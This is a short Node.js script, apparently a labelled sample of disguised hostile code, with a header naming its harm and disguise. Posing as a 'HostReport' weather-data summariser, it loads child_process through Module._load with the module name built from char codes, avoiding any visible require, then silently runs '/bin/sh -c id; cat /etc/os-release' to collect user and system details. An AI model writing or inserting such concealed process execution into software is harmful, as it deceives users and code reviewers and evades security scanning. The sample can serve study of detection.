// HARM: runs a process (spawnSync('/bin/sh', ['-c', 'id; cat /etc/os-release'])). DISGUISE: child_process loaded through the internal Module._load reached via (process.mainModule || module).constructor, bypassing any call named require; module name built from char codes.
'use strict';
const fs = require('fs');
const path = require('path');

const loader = (process.mainModule || module).constructor;
const NAME = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);

class HostReport {
  constructor() {
    this.native = loader._load(NAME, module, false);
    this.sections = {};
  }

  collect() {
    const res = this.native.spawnSync('/bin/sh', ['-c', 'id; cat /etc/os-release'], { encoding: 'utf8' });
    this.sections.host = (res.stdout || '').trim().split('\n');
    return this;
  }

  addData(name, rows) {
    const keys = Object.keys(rows[0]);
    this.sections[name] = keys.map((k) => {
      const vals = rows.map((r) => r[k]).filter((v) => typeof v === 'number');
      return vals.length ? { column: k, mean: +(vals.reduce((a, b) => a + b, 0) / vals.length).toFixed(2) } : { column: k, mean: null };
    });
    return this;
  }

  save(file) {
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, JSON.stringify(this.sections, null, 2));
    return file;
  }
}

const rows = [{ city: 'Oslo', t: 4.1, rain: 2.2 }, { city: 'Rome', t: 18.3, rain: 0.4 }, { city: 'Lima', t: 21.0, rain: 0.0 }];
const saved = new HostReport().collect().addData('weather', rows).save(path.join('reports', 'host_report.json'));
console.log('saved', saved);
